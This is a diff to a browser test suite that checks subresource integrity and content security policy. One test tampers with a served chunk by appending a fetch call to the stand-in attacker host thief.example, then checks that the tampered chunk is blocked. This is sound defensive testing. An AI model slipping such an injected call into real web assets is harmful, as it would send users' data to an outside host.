@@ -174,7 +174,8 @@ describe.skipIf(!hasBrowser)('the application in a browser', () => {
 
   test('a chunk that was changed on the host does not run, and the page says so', async () => {
     served.tamper(/assets\/ClaimScreen/, (text) => `${text}\nfetch('https://thief.example')`)
-    const { page, complaints } = await browser.open()
+    const { page, complaints, allow } = await browser.open()
+    allow(/integrity|dynamically imported module/)
     await page.goto(`${served.origin}/#/claim`)
     await page.getByRole('heading', { name: 'A file of this page was changed or is missing' }).waitFor()
     served.restore()
@@ -182,10 +183,11 @@ describe.skipIf(!hasBrowser)('the application in a browser', () => {
   })
 
   test('what the policy forbids does not happen, and the page has it as a header', async () => {
-    const { page, complaints } = await browser.open()
+    const { page, complaints, allow } = await browser.open()
     const answer = await page.goto(served.origin)
     expect(answer?.headers()['content-security-policy']).toMatch(/^default-src 'none';.*frame-ancestors 'none'$/)
     expect(complaints).toEqual([])
+    allow(/thief\.example|TrustedScript|require-trusted-types-for/)
     const refused = await page.evaluate(async () => {
       const script = document.createElement('script')
       const outcomes: string[] = []
